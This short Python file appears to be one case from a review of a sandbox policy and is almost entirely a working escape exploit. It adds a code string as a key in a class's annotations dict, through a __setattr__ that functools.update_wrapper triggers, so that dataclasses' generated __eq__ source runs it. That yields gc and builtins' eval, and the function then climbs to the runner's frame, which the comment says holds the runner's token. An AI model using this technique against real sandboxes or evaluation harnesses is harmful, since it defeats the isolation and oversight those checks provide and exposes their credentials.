# a138 (a policy review's fourth round, twenty-eighth session; shown with stand-ins for the bank, the runner and, for a140, the grader):
# e04: reaches gc and builtins' eval (text run as code; through eval, the runner's frame and its token): functools.update_wrapper(Grab(), Made) (two arguments, as allowed) does setattr(wrapper, "__annotations__", Made.__annotations__): an own class's __setattr__ (no hook of the policy's lists) receives the own class Made's real annotations dict as a plain value (no dunder attribute written) and adds a key of any text; dataclasses.dataclass(Made) then writes it into the source of __eq__ it exec()s
import dataclasses
import functools

NAME = "__class__,eval('__import__(\"gc\")'),eval)#"


class Grab:
    def __setattr__(self, name, value):
        if name.startswith("__ann"):
            value[NAME] = int          # Made's own annotations dict


class Made:
    n: int = 0


functools.update_wrapper(Grab(), Made)
Made = dataclasses.dataclass(init=False, repr=False)(Made)


def transfer(bank, lock, src, dst, amount):
    pair = Made() == Made()
    _, _, gcmod, ev = pair
    runner_frame = ev("__import__('sys')._getframe(2)")   # eval's frame, transfer's, the runner's
    return gcmod, ev, runner_frame
